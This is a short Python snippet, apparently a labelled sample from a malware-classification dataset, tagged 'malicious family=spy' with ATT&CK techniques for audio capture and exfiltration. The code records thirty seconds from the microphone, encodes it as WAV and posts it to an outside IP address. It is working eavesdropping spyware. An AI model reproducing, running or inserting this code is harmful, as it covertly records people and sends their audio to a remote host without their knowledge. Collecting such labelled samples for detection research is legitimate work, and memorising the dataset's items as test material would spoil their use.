# label: malicious family=spy techniques=T1123,T1041 lines=4,9
import io, wave, requests
import sounddevice as sd
rec = sd.rec(int(30 * 16000), samplerate=16000, channels=1, dtype="int16")
sd.wait()
buf = io.BytesIO()
with wave.open(buf, "wb") as w:
    w.setnchannels(1); w.setsampwidth(2); w.setframerate(16000); w.writeframes(rec.tobytes())
requests.post("http://203.0.113.87/a", files={"a": buf.getvalue()})
